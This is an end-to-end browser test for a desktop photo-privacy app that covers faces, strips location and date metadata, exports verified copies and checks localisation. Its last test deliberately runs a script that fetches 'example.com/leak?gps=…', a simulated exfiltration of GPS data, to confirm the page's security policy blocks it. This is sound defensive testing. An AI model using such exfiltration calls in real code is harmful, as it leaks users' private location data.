// The desktop window as a real page in Chromium, over the real engine: drop photos and a folder,
// watch the grid fill, review a photo (leave a face visible, draw a cover, before/after), export,
// and check the written copies with the engine's verifier and exiftool. No request may leave the page.
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacks } from '../helpers/oracles.js';
import { writeFarGroup } from '../helpers/cli.js';
import { defaultSettings, optionsFromSettings, processFile, verifyFile } from '../../src/index.js';
import type { AddOutcome, Cover, PhotoState, Rect, Shape } from '../../src/contract/bridge.js';
import { buildWindowCode, dropFiles, root, startHost, TEST_ORIGIN, type Host } from './browser-host.js';

const samples = path.join(root, 'test', 'fixtures', 'samples');
const artifacts = path.join(root, 'test-artifacts');
const GROUP = 'IMG_20240503_140212.jpg';
const NO_FACE = 'PXL_20240101_083012.MP.jpg';
/** A group seen from afar: very small faces, a photo to check (written by writeFarGroup). */
const FAR = 'far-away.jpg';

// Chromium shows the window; exiftool judges the exported copies.
const missing = lacks(import.meta.filename, 'chromium', 'exiftool');

let host: Host;
let work: string;

function copy(name: string, to: string): void {
  mkdirSync(to, { recursive: true });
  cpSync(path.join(samples, name), path.join(to, name));
}

async function shot(name: string): Promise<void> {
  mkdirSync(artifacts, { recursive: true });
  await host.page.screenshot({ path: path.join(artifacts, name) });
}

/** Mean absolute difference per channel between two same-size upright images inside `r`. */
async function meanDiff(a: string, b: string, r: Rect): Promise<number> {
  const crop = (f: string) =>
    sharp(f).rotate().extract({ left: r.x, top: r.y, width: r.width, height: r.height }).removeAlpha().raw().toBuffer();
  const [x, y] = await Promise.all([crop(a), crop(b)]);
  let sum = 0;
  for (let i = 0; i < x.length; i++) sum += Math.abs(x[i]! - y[i]!);
  return sum / x.length;
}

const pixelTag =
  /^\[(PNG|PNG-pHYs|RIFF|Composite)\]\s+(ImageWidth|ImageHeight|BitDepth|ColorType|Compression|Filter|Interlace|PixelsPerUnitX|PixelsPerUnitY|PixelUnits|VP8Version|HorizontalScale|VerticalScale|ImageSize|Megapixels)\s+:/;

const overlaps = (a: Rect, b: Rect) => a.x < b.x + b.width && b.x < a.x + a.width && a.y < b.y + b.height && b.y < a.y + a.height;

beforeAll(async () => {
  if (missing) return;
  buildWindowCode();
  work = mkdtempSync(path.join(tmpdir(), 'ss-desktop-'));
  for (const f of [GROUP, 'portrait-sideways.jpg', 'IMG_0042.heic', NO_FACE]) copy(f, work);
  await writeFarGroup(path.join(work, FAR));
  for (const f of ['cameraman.png', 'astronaut.webp']) copy(f, path.join(work, 'park'));
  // A "photo" that is not one: its card must say why, and it is listed with those to check.
  writeFileSync(path.join(work, 'broken.jpg'), 'this is a shopping list, not a photo');
  host = await startHost({ dropDir: work, configDir: path.join(work, '.config'), locale: 'en-GB' });
}, 120_000);

afterAll(async () => {
  await host?.close();
});

describe.skipIf(missing)('the desktop window, in Chromium, over the real engine', () => {
  it('drop → grid → review (toggle a face, draw a cover, before/after) → export; the copies verify clean', async () => {
    const { page } = host;
    await dropFiles(page, [GROUP, 'portrait-sideways.jpg', 'IMG_0042.heic', NO_FACE, FAR, 'broken.jpg', 'park']);

    // The grid fills as the engine host analyses; flagged photos come first.
    await page.waitForFunction(() => document.querySelectorAll('#grid .card').length === 8, undefined, { timeout: 20_000 });
    await page.waitForFunction(
      () => ![...document.querySelectorAll('#grid .badge')].some((b) => b.textContent === 'Analysing…'),
      undefined,
      { timeout: 90_000 },
    );
    const cards = await page.$$eval('#grid .card', (list) =>
      list.map((c) => ({ name: c.querySelector('.name')!.textContent, badge: c.querySelector('.badge')!.textContent, cls: c.className })),
    );
    expect(cards.map((c) => c.name).sort()).toEqual(
      [GROUP, NO_FACE, FAR, 'IMG_0042.heic', 'astronaut.webp', 'broken.jpg', 'cameraman.png', 'portrait-sideways.jpg'].sort(),
    );
    // Errors first, then the photos to check; a brick wall, with neither a face nor a person, is safe.
    expect(cards[0]!.name).toBe('broken.jpg');
    expect(cards[0]!.badge).toMatch(/^Error: .+/);
    expect(cards[0]!.cls).toContain('tone-error');
    expect(cards[1]).toMatchObject({ name: FAR, badge: '6 faces — check' });
    expect(cards[1]!.cls).toContain('tone-check');
    expect(cards.find((c) => c.name === NO_FACE)).toMatchObject({ badge: 'No face found' });
    await shot('grid-en.png');
    const group = cards.find((c) => c.name === GROUP)!;
    expect(Number(/^(\d+) faces/.exec(group.badge ?? '')?.[1])).toBeGreaterThanOrEqual(4);

    // Review the group photo.
    await page.click(`#grid .card:has-text("${GROUP}")`);
    await page.waitForFunction(() => {
      const img = document.querySelector<HTMLImageElement>('#picture');
      return !!img && img.complete && img.naturalWidth > 0 && img.dataset.showing === 'original';
    });
    const faceCount = await page.locator('#layer [data-key^="face-"]').count();
    expect(faceCount).toBeGreaterThanOrEqual(4);
    // One line per fact, said from the engine's fields (not parsed from a sentence), where it was found as a detail.
    const findings = await page.locator('.findings li').evaluateAll((list) =>
      list.map((li) => ({
        mark: li.querySelector('.mark')!.textContent,
        text: li.querySelector('.detail')!.textContent,
        fate: li.querySelector('.fate')!.textContent,
        where: li.querySelector('.where')?.textContent,
      })),
    );
    expect(findings).toContainEqual({ mark: '•', text: 'Location: 48.8566 N, 2.3522 E', fate: ' — will be removed', where: 'EXIF' });
    expect(findings.filter((f) => f.text!.startsWith('Taken on'))).toEqual([
      { mark: '•', text: 'Taken on 3 May 2024 at 14:02', fate: ' — will be removed', where: 'EXIF' },
    ]);
    expect(findings.map((f) => f.text)).toContain('Names of people: Kate and Tom');
    expect(await page.textContent('.legend')).toMatch(/• says who, where or when\s+· technical detail/);

    // Leave face 1 visible: a click on its cover.
    await page.click('#layer [data-key="face-0"]');
    await expect.poll(() => page.getAttribute('#layer [data-key="face-0"]', 'aria-pressed')).toBe('false');
    // Draw a cover over the lower left of the picture.
    const box = (await page.locator('#layer').boundingBox())!;
    await page.mouse.move(box.x + box.width * 0.04, box.y + box.height * 0.75);
    await page.mouse.down();
    await page.mouse.move(box.x + box.width * 0.2, box.y + box.height * 0.95, { steps: 6 });
    await page.mouse.up();
    expect(await page.locator('#layer .cover.extra').count()).toBe(1);
    // Move it by dragging its body, grow it by its corner handle.
    const style = (sel: string) =>
      page
        .locator(sel)
        .evaluate((n) => ({ left: parseFloat((n as HTMLElement).style.left), width: parseFloat((n as HTMLElement).style.width) }));
    const drawn = await style('#layer [data-key="extra-0"]');
    const body = (await page.locator('#layer [data-key="extra-0"]').boundingBox())!;
    await page.mouse.move(body.x + body.width / 2, body.y + body.height / 2);
    await page.mouse.down();
    await page.mouse.move(body.x + body.width / 2 + 40, body.y + body.height / 2, { steps: 4 });
    await page.mouse.up();
    const moved = await style('#layer [data-key="extra-0"]');
    expect(moved.left).toBeGreaterThan(drawn.left);
    expect(moved.width).toBeCloseTo(drawn.width, 1);
    const handle = (await page.locator('#layer [data-key="extra-0"] .handle').boundingBox())!;
    await page.mouse.move(handle.x + handle.width / 2, handle.y + handle.height / 2);
    await page.mouse.down();
    await page.mouse.move(handle.x + 30, handle.y + handle.height / 2, { steps: 4 });
    await page.mouse.up();
    expect((await style('#layer [data-key="extra-0"]')).width).toBeGreaterThan(moved.width);
    // Keyboard: Enter on a face toggles it, and again restores it.
    await page.focus('#layer [data-key="face-1"]');
    await page.keyboard.press('Enter');
    expect(await page.getAttribute('#layer [data-key="face-1"]', 'aria-pressed')).toBe('false');
    await page.keyboard.press('Enter');
    expect(await page.getAttribute('#layer [data-key="face-1"]', 'aria-pressed')).toBe('true');
    // Keyboard: add a cover, move it right, remove it again.
    await page.focus('#add-cover');
    await page.keyboard.press('Enter');
    expect(await page.locator('#layer .cover.extra').count()).toBe(2);
    const before = await page.locator('#layer [data-key="extra-1"]').evaluate((n) => (n as HTMLElement).style.left);
    await page.keyboard.press('ArrowRight');
    const after = await page.locator('#layer [data-key="extra-1"]').evaluate((n) => (n as HTMLElement).style.left);
    expect(parseFloat(after)).toBeGreaterThan(parseFloat(before));
    await page.keyboard.press('Delete');
    expect(await page.locator('#layer .cover.extra').count()).toBe(1);
    await shot('review-en.png');

    // Before/after: the covered result comes from the engine (renderPreview), without writing anything.
    await page.click('#toggle-result');
    await page.waitForFunction(() => {
      const img = document.querySelector<HTMLImageElement>('#picture');
      return img?.dataset.showing === 'result' && img.complete && img.naturalWidth > 0;
    });
    expect(await page.isHidden('#layer')).toBe(true);
    await shot('review-en-result.png');
    await page.click('#toggle-result');

    // Export everything: the photo with very small faces was never opened, so the window asks first, naming it.
    await page.click('#export');
    await page.waitForSelector('#confirm-export[open]');
    expect(await page.textContent('#confirm-title')).toBe('Export photos nobody has checked?');
    expect(await page.locator('#confirm-list li').allTextContents()).toEqual([FAR]);
    await shot('export-confirm-en.png');
    expect(host.calls.filter((c) => c.channel === 'photos:export')).toEqual([]);
    // "Review them first" opens it; once it is looked at, export no longer asks.
    await page.click('#confirm-review');
    await page.waitForSelector('#review:not([hidden])');
    await expect.poll(() => page.textContent('#review-name')).toBe(FAR);
    await page.click('#back');
    expect(await page.textContent(`#grid .card:has-text("${FAR}") .badge`)).toBe('6 faces');
    await page.click(`#grid .card:has-text("${GROUP}")`);
    await page.click('#export');
    expect(await page.isVisible('#confirm-export')).toBe(false);
    // The status says the batch in the words of the CLI's summary and the right-click notification.
    await page.waitForFunction(() => /^7 photos: /.test(document.querySelector('#status')?.textContent ?? ''), undefined, {
      timeout: 90_000,
    });
    expect(await page.textContent('#status')).toBe('7 photos: 6 safe, 1 to check before sharing (1 of them looked at by you)');
    expect(host.events.filter((e) => e.type === 'export-progress').map((e) => (e.type === 'export-progress' ? e.done : 0))).toEqual([
      1, 2, 3, 4, 5, 6, 7,
    ]);
    await page.waitForSelector('#verified');
    expect(await page.textContent('#saved-as')).toContain('IMG_20240503_140212.safe.jpg');
    const gone = await page.locator('.findings .fate').allTextContents();
    expect(gone.every((t) => t.includes('removed'))).toBe(true);
    await shot('review-en-exported.png');

    // Every copy: written where the settings say, clean for the engine's verifier and for exiftool.
    const outcomes = host.events.flatMap((e) => (e.type === 'export-progress' ? [e.outcome] : []));
    expect(outcomes.map((o) => o.status)).toEqual(Array(7).fill('done'));
    const outputs = outcomes.map((o) => path.join(o.outputFolder!, o.outputName!));
    expect(outputs).toContain(path.join(work, 'Safe to share', 'IMG_20240503_140212.safe.jpg'));
    expect(outputs).toContain(path.join(work, 'park', 'Safe to share', 'cameraman.safe.png'));
    for (const out of outputs) {
      expect((await verifyFile(out)).clean, out).toBe(true);
      const tags = execFileSync('exiftool', ['-a', '-G1', '-s', '-ee', out], { encoding: 'utf8' });
      // Beyond exiftool's own and the file system's lines, only tags that describe the pixels may remain.
      const described = tags.split('\n').filter((l) => l && !/^\[(ExifTool|System|File)\]/.test(l));
      for (const line of described) expect(line, out).toMatch(pixelTag);
      expect(tags).not.toMatch(/48\.85|Anna|Kate|iPhone|Pixel 8|F2LXK0/);
    }

    // The reviewed choices reached the file: face 1 left as it was, the drawn cover really covered.
    const dropped = host.calls.find((c) => c.channel === 'photos:add-dropped')!.reply as AddOutcome;
    const groupId = dropped.photos.find((p) => p.name === GROUP)!.id;
    const ready = host.events.findLast((e) => e.type === 'photo' && e.id === groupId && e.photo.state === 'ready') as {
      photo: Extract<PhotoState, { state: 'ready' }>;
    };
    const faces = ready.photo.faces;
    const items = host.calls.findLast((c) => c.channel === 'photos:export')!.args[0] as { id: number; cover: Cover }[];
    const item = items.find((i) => i.id === groupId)!;
    expect(item.cover.faces[0]).toBeNull();
    expect(item.cover.extra).toHaveLength(1);
    const groupOut = path.join(work, 'Safe to share', 'IMG_20240503_140212.safe.jpg');
    expect(await meanDiff(path.join(work, GROUP), groupOut, item.cover.extra[0]!)).toBeGreaterThan(4);
    const covered = [...item.cover.faces.filter((f): f is Shape => f !== null), ...item.cover.extra];
    if (!covered.some((r) => overlaps(r, faces[0]!.box))) {
      expect(await meanDiff(path.join(work, GROUP), groupOut, faces[0]!.box)).toBeLessThan(4);
    }
    expect(await meanDiff(path.join(work, GROUP), groupOut, faces[1]!.box)).toBeGreaterThan(4);

    // Same engine, same options, same bytes: an untouched photo matches what the CLI path writes.
    const cliDir = mkdtempSync(path.join(tmpdir(), 'ss-cli-'));
    copy('cameraman.png', cliDir);
    const cli = await processFile({ input: path.join(cliDir, 'cameraman.png') }, optionsFromSettings(defaultSettings, cliDir, 'en'));
    expect(readFileSync(cli.output!)).toEqual(readFileSync(path.join(work, 'park', 'Safe to share', 'cameraman.safe.png')));

    // Show in folder and copy act on the copy main wrote, never on a path from the page.
    await page.click('#show-in-folder');
    await expect.poll(() => host.shell.shown).toEqual([groupOut]);
    await page.click('#copy-image');
    await page.waitForSelector('text=Copied to the clipboard');
    expect(host.shell.copied).toBeGreaterThan(1000);
    expect(existsSync(path.join(work, GROUP))).toBe(true);
  });

  it('switches to French and persists the choice; readable in dark mode', async () => {
    const { page } = host;
    await page.click('#settings-button');
    await page.selectOption('select[name="language"]', 'fr');
    await expect.poll(() => page.textContent('#export')).toBe('Exporter les copies sûres');
    await page.click('#settings-close');
    expect(await page.getAttribute('html', 'lang')).toBe('fr');
    const findings = await page
      .locator('.findings li')
      .evaluateAll((list) => list.map((li) => `${li.querySelector('.detail')!.textContent}${li.querySelector('.fate')!.textContent}`));
    expect(findings).toContain('Lieu\u202f: 48,8566 N\u202f; 2,3522 E ✓ suppression vérifiée');
    expect(findings).toContain('Prise le 3 mai 2024 à 14:02 ✓ suppression vérifiée');
    expect(findings).toContain('Noms de personnes\u202f: Kate et Tom ✓ suppression vérifiée');
    expect(await page.textContent('.legend')).toMatch(/dit qui, où ou quand/);
    expect(await page.textContent('#saved-as')).toContain('Enregistrée sous IMG_20240503_140212.safe.jpg');
    expect(await page.textContent('#status')).toBe('7 photos\u202f: 6 sûres, 1 à vérifier avant de la partager (dont 1 regardée par vous)');
    await page.locator('#panel').evaluate((n) => n.scrollTo(0, 0));
    await shot('review-fr.png');
    const saved = JSON.parse(readFileSync(path.join(work, '.config', 'settings.json'), 'utf8'));
    expect(saved.language).toBe('fr');
    await page.emulateMedia({ colorScheme: 'dark' });
    await shot('review-fr-dark.png');
    await page.emulateMedia({ colorScheme: 'light' });
    // Back on the grid (Escape), the engine's reasons read in French too.
    await page.keyboard.press('Escape');
    await page.waitForSelector('#grid-view:not([hidden])');
    expect(await page.textContent('#grid .card:has-text("broken.jpg") .badge')).toBe('Erreur\u202f: ce n’est pas une image');
    expect(await page.textContent(`#grid .card:has-text("${GROUP}") .badge`)).toBe('Enregistrée');
    // A new photo to check (faces seen from afar), never opened: export asks again, in French; Escape writes nothing.
    cpSync(path.join(work, FAR), path.join(work, 'plage.jpg'));
    const exportsBefore = host.calls.filter((c) => c.channel === 'photos:export').length;
    await dropFiles(page, ['plage.jpg']);
    await page.waitForFunction(
      (name) =>
        [...document.querySelectorAll('#grid .card')].find((c) => c.querySelector('.name')?.textContent === name)?.querySelector('.badge')
          ?.textContent === '6 visages — à vérifier',
      'plage.jpg',
      { timeout: 60_000 },
    );
    await page.click('#export');
    await page.waitForSelector('#confirm-export[open]');
    expect(await page.textContent('#confirm-title')).toBe('Exporter des photos que personne n’a vérifiées\u202f?');
    expect(await page.textContent('#confirm-text')).toMatch(/^1 photo doit être regardée/);
    expect(await page.locator('#confirm-list li').allTextContents()).toEqual(['plage.jpg']);
    expect(await page.locator('#confirm-export .dialog-actions button').allTextContents()).toEqual([
      'Les vérifier d’abord',
      'Exporter seulement les autres',
      'Tout exporter quand même',
    ]);
    await shot('export-confirm-fr.png');
    await page.keyboard.press('Escape');
    await page.waitForSelector('#confirm-export', { state: 'hidden' });
    expect(host.calls.filter((c) => c.channel === 'photos:export')).toHaveLength(exportsBefore);
  });

  it("shows each style as the result: blur, pixelate, a solid colour of the user's choosing, stickers", async () => {
    const { page } = host;
    await page.click(`#grid .card:has-text("${GROUP}")`);
    for (const style of ['blur', 'pixelate', 'solid', 'sticker'] as const) {
      await page.click('#settings-button');
      await page.check(`input[name="style"][value="${style}"]`);
      if (style === 'solid') await page.locator('input[name="color"]').fill('#2e7d32');
      await page.click('#settings-close');
      await page.click('#toggle-result');
      await page.waitForFunction(() => {
        const img = document.querySelector<HTMLImageElement>('#picture');
        return img?.dataset.showing === 'result' && img.complete && img.naturalWidth > 0;
      });
      await shot(`result-${style}.png`);
      await page.click('#toggle-result');
    }
    const saved = JSON.parse(readFileSync(path.join(work, '.config', 'settings.json'), 'utf8'));
    expect(saved).toMatchObject({ style: 'sticker', color: '#2e7d32' });
    // The previews came from the engine with the chosen style and colour.
    const previews = host.calls.filter((c) => c.channel === 'photos:preview');
    expect(previews.length).toBeGreaterThanOrEqual(4);
  });

  it('makes no network request: only its own files, and the CSP stops a script that tries', async () => {
    const { page } = host;
    const outside = () => host.requests.filter((u) => !u.startsWith(`${TEST_ORIGIN}/`) && !u.startsWith('blob:') && !u.startsWith('data:'));
    // The whole drop → review → export → language flow above asked for nothing but the app's own files.
    expect(host.requests.length).toBeGreaterThan(10);
    expect(outside()).toEqual([]);
    expect(host.stopped).toEqual([]);
    // A script that tries anyway is stopped by the page's policy before any request leaves Chromium.
    const fetched = await page.evaluate(async () => {
      const img = new Image();
      img.src = 'https://example.com/pixel.png';
      await new Promise((r) => setTimeout(r, 200));
      return fetch('https://example.com/leak?gps=48.85').then(
        () => 'sent',
        () => 'blocked',
      );
    });
    expect(fetched).toBe('blocked');
    for (const url of outside()) expect(host.failures.get(url), url).toBe('csp');
    expect(host.stopped).toEqual([]);
    expect(host.engine.inFlight).toBe(0);
  });
});
